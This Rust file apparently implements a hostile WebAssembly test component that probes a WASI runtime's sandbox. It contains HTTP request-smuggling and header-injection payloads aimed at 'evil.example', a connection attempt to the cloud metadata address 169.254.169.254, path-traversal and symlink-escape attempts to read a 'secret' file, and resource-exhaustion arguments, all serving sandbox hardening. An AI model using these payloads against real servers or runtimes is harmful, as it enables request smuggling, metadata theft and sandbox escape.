//! Misuses interfaces as nobody does who means well, as the argument `what` says: streams, clocks, requests, sockets, paths. An
//! address after it is of a server that it was granted.

use hostile::exports::functions::InvokeRequest;
use hostile::types::Error;
use hostile::{Attack, Tree, attack, field, object, text};
use wasip2::clocks::{monotonic_clock, wall_clock};
use wasip2::filesystem::preopens::get_directories;
use wasip2::filesystem::types::{Descriptor, DescriptorFlags, NewTimestamp, OpenFlags, PathFlags};
use wasip2::http::outgoing_handler::handle;
use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
use wasip2::sockets::instance_network::instance_network;
use wasip2::sockets::ip_name_lookup::resolve_addresses;
use wasip2::sockets::network::{IpAddressFamily, IpSocketAddress, Ipv4SocketAddress};
use wasip2::sockets::tcp::ShutdownType;
use wasip2::sockets::tcp_create_socket::create_tcp_socket;

struct Misused;

/// How a request ended whose head and body are as odd as these say.
fn sent(to: &str, make: impl FnOnce(&OutgoingRequest) -> Result<(), String>, fields: Fields) -> String {
    let request = OutgoingRequest::new(fields);
    let _ = request.set_scheme(Some(&Scheme::Http));
    if request.set_authority(Some(to)).is_err() {
        return "unmade: authority".to_owned();
    }
    if let Err(refused) = make(&request) {
        return format!("unmade: {refused}");
    }
    let future = match handle(request, None) {
        Ok(future) => future,
        Err(error) => return format!("refused: {error:?}"),
    };
    future.subscribe().block();
    match future.get() {
        Some(Ok(Ok(response))) => format!("answered {}", response.status()),
        Some(Ok(Err(error))) => format!("failed: {error:?}"),
        other => format!("nothing: {other:?}"),
    }
}

fn fields(name: &str, value: &[u8]) -> Result<Fields, String> {
    Fields::from_list(&[(name.to_owned(), value.to_vec())]).map_err(|error| format!("{error:?}"))
}

/// A request with one odd header.
fn with_header(to: &str, name: &str, value: &[u8]) -> String {
    match fields(name, value) {
        Ok(fields) => sent(to, |_| Ok(()), fields),
        Err(refused) => format!("unmade: {refused}"),
    }
}

fn with_path(to: &str, path: &str) -> String {
    let make = |request: &OutgoingRequest| request.set_path_with_query(Some(path)).map_err(|()| "path".to_owned());
    sent(to, make, Fields::new())
}

fn by(request: &OutgoingRequest, method: &Method) -> Result<(), String> {
    request.set_method(method).map_err(|()| "method".to_owned())
}

fn with_method(to: &str, method: &str) -> String {
    let method = Method::Other(method.to_owned());
    sent(to, |request| by(request, &method), Fields::new())
}

/// A request by a scheme that is spelt out, and over a connection of its own.
fn with_scheme(to: &str, scheme: &str) -> String {
    let scheme = Scheme::Other(scheme.to_owned());
    let make = |request: &OutgoingRequest| {
        request.set_scheme(Some(&scheme)).map_err(|()| "scheme".to_owned())?;
        by(request, &Method::Post)
    };
    sent(to, make, Fields::new())
}

/// A body of other than the announced length.
fn with_body(to: &str, announced: &str, body: &[u8]) -> String {
    let Ok(fields) = fields("content-length", announced.as_bytes()) else { return "unmade".to_owned() };
    let request = OutgoingRequest::new(fields);
    let _ = request.set_scheme(Some(&Scheme::Http));
    let _ = request.set_method(&Method::Post);
    let _ = request.set_authority(Some(to));
    let Ok(given) = request.body() else { return "unmade: body".to_owned() };
    let Ok(future) = handle(request, None) else { return "refused".to_owned() };
    let written = given.write().map(|stream| stream.blocking_write_and_flush(body).is_ok());
    let finished = OutgoingBody::finish(given, None).is_ok();
    future.subscribe().block();
    let answered = matches!(future.get(), Some(Ok(Ok(_))));
    format!("written {}, finished {finished}, answered {answered}", written == Ok(true))
}

/// Streams of which one is closed, and lengths that nobody has.
fn streams() -> String {
    let (output, input) = (wasip2::cli::stdout::get_stdout(), wasip2::cli::stdin::get_stdin());
    let spliced = output.splice(&input, u64::MAX).is_ok();
    let read = input.read(u64::MAX).is_ok();
    let skipped = input.blocking_skip(u64::MAX).is_ok();
    format!("spliced {spliced}, read {read}, skipped {skipped}")
}

fn clocks() -> String {
    let now = monotonic_clock::now();
    let far = [u64::MAX, u64::MAX - now, 1 << 63].map(|far| monotonic_clock::subscribe_instant(far).ready());
    let long = [u64::MAX, 1 << 63].map(|long| monotonic_clock::subscribe_duration(long).ready());
    monotonic_clock::subscribe_instant(0).block();
    wall_clock::resolution();
    format!("{far:?} {long:?}")
}

/// A socket in the order in which nobody uses one.
fn sockets(to: &str) -> String {
    let Ok(socket) = create_tcp_socket(IpAddressFamily::Ipv4) else { return "no socket".to_owned() };
    let network = instance_network();
    let port = to.rsplit(':').next().and_then(|port| port.parse().ok()).unwrap_or_default();
    let address = |address, port| IpSocketAddress::Ipv4(Ipv4SocketAddress { address, port });
    let server = address((127, 0, 0, 1), port);
    let outcomes = [
        socket.finish_connect().map(drop),
        socket.shutdown(ShutdownType::Both),
        socket.finish_bind(),
        socket.start_listen(),
        socket.finish_listen(),
        socket.accept().map(drop),
        socket.start_bind(&network, server),
        socket.start_connect(&network, address((127, 0, 0, 1), port ^ 1)),
        socket.start_connect(&network, address((169, 254, 169, 254), 80)),
        socket.set_receive_buffer_size(u64::MAX),
        socket.set_keep_alive_idle_time(u64::MAX),
        socket.start_connect(&network, server),
        socket.start_connect(&network, server),
        socket.start_listen(),
    ];
    let outcomes: Vec<_> =
        outcomes.iter().map(|outcome| outcome.as_ref().err().map_or("well", |error| error.name())).collect();
    socket.subscribe().block();
    let Ok((input, output)) = socket.finish_connect() else { return "not connected".to_owned() };
    let again = socket.finish_connect().is_ok();
    let shut =
        [ShutdownType::Receive, ShutdownType::Both, ShutdownType::Both].map(|what| socket.shutdown(what).is_ok());
    let written = output.blocking_write_and_flush(b"x").is_ok();
    let read = input.blocking_read(u64::MAX).is_ok();
    format!("{}; again {again}, shut {shut:?}, written {written}, read {read}", outcomes.join(" "))
}

/// Looked up under names that mean something else.
fn names() -> String {
    let network = instance_network();
    let names =
        ["", ".", "a..b", "127.0.0.1:80", "[::1]", "localhost\0.example", "user@host", "a b", "*", "%31", "١٢٧.٠.٠.١"];
    let long = "a.".repeat(1_000_000);
    let looked = names.into_iter().chain([long.as_str()]).map(|name| resolve_addresses(&network, name));
    let looked: Vec<_> = looked.map(|looked| looked.err().map_or("asked", |error| error.name())).collect();
    looked.join(" ")
}

/// Paths out of what was granted, and such as nobody can follow.
fn paths(directory: &Descriptor) -> String {
    let mut reached = Vec::new();
    let long = ["./".repeat(500_000), "a/../".repeat(200_000), "x".repeat(1_000_000)];
    let odd = [
        "..",
        "../secret",
        "./..//secret",
        "a/../../secret",
        "/secret",
        "//secret",
        "\0",
        "a\0b",
        "",
        "/",
        "a/..",
        "....//secret",
        "%2e%2e/secret",
        "..\\secret",
        "link/../secret",
        "link/secret",
    ];
    let _ = directory.symlink_at("..", "link");
    let _ = directory.create_directory_at("a");
    for path in odd.into_iter().chain(long.iter().map(String::as_str)) {
        let shown = path.get(..20).unwrap_or(path);
        for follow in [PathFlags::empty(), PathFlags::SYMLINK_FOLLOW] {
            let opened = directory.open_at(follow, path, OpenFlags::empty(), DescriptorFlags::READ);
            // A name may be there inside, what lies outside is a file that says so.
            let held = opened.ok().and_then(|file| file.read(16, 0).ok()).is_some_and(|(bytes, _)| bytes == b"secret");
            let linked = directory.link_at(follow, path, directory, "linked").is_ok() && path.contains("secret");
            let seen = path.contains("secret") && directory.stat_at(follow, path).is_ok();
            if held || linked || seen {
                reached.push(format!("{shown:?}"));
            }
        }
        let _ = directory.rename_at(path, directory, "moved");
        let _ = directory.rename_at("a", directory, path);
        let _ = directory.unlink_file_at(path);
        let _ = directory.remove_directory_at(path);
        let _ = directory.create_directory_at("a");
    }
    if let Ok(file) = directory.open_at(PathFlags::empty(), "file", OpenFlags::CREATE, DescriptorFlags::WRITE) {
        let _ = file.set_size(u64::MAX);
        let _ = file.set_times(
            NewTimestamp::Timestamp(wall_clock::Datetime { seconds: u64::MAX, nanoseconds: u32::MAX }),
            NewTimestamp::Now,
        );
        let _ = file.advise(u64::MAX, u64::MAX, wasip2::filesystem::types::Advice::WillNeed);
        let _ = file.read(u64::MAX, u64::MAX);
        let _ = file.append_via_stream().map(|stream| stream.write_zeroes(4_096));
        let _ = file.write_via_stream(u64::MAX).map(|stream| stream.blocking_write_and_flush(b"x").is_ok());
        let _ = file.read_via_stream(u64::MAX).map(|stream| stream.blocking_read(u64::MAX).is_ok());
    }
    format!("reached [{}]", reached.join(", "))
}

impl Attack for Misused {
    fn invoke(&self, request: InvokeRequest) -> Result<Tree, Error> {
        let what = field(&request.arguments, "what").unwrap_or_default();
        let (what, to) = what.split_once(' ').unwrap_or((&what, ""));
        let outcome = match what {
            "streams" => streams(),
            "clocks" => clocks(),
            "sockets" => sockets(to),
            "names" => names(),
            "paths" => {
                get_directories().first().map_or("nothing is granted".to_owned(), |(directory, _)| paths(directory))
            }
            "line-in-value" => with_header(to, "x-a", b"1\r\nhost: evil.example"),
            "line-in-name" => with_header(to, "x-a: 1\r\nx-b", b"2"),
            "host-of-others" => with_header(to, "host", b"evil.example"),
            "chunked" => with_header(to, "transfer-encoding", b"chunked"),
            "chunked-oddly" => with_header(to, "Transfer-Encoding", b"identity, chunked"),
            "length-of-none" => with_header(to, "content-length", b"5"),
            "length-signed" => with_header(to, "content-length", b"+0"),
            "line-in-path" => with_path(to, "/ HTTP/1.1\r\nhost: evil.example\r\n\r\nGET /"),
            "path-of-others" => with_path(to, "http://evil.example/"),
            "path-of-an-authority" => with_path(to, "@evil.example/"),
            "path-with-null" => with_path(to, "/\0"),
            "line-in-method" => with_method(to, "GET / HTTP/1.1\r\n\r\nGET"),
            "preface" => with_method(to, "PRI"),
            "body-longer" => with_body(to, "1", b"xGET /smuggled HTTP/1.1\r\n\r\n"),
            "body-shorter" => with_body(to, "100", b"x"),
            "user" => sent(&format!("{to}@evil.example"), |_| Ok(()), Fields::new()),
            "port-of-none" => sent("evil.example:0", |_| Ok(()), Fields::new()),
            "tunnel" => sent("evil.example:443", |request| by(request, &Method::Connect), Fields::new()),
            "echo" => sent(to, |request| by(request, &Method::Trace), Fields::new()),
            "small-letters" => with_method(to, "get"),
            "method-long" => with_method(to, &"X".repeat(1 << 20)),
            "scheme-of-others" => with_scheme(to, "gopher"),
            "scheme-spelt" => with_scheme(to, "http"),
            "host-encoded" => sent("secret@evil%2eexample", |_| Ok(()), Fields::new()),
            "host-of-two" => sent(&format!("{to},evil.example"), |_| Ok(()), Fields::new()),
            _ => return Err(Error::Failed(format!("no attack is called `{what}`"))),
        };
        Ok(object(&["text"], vec![text(&outcome)]))
    }
}

attack!(Misused);
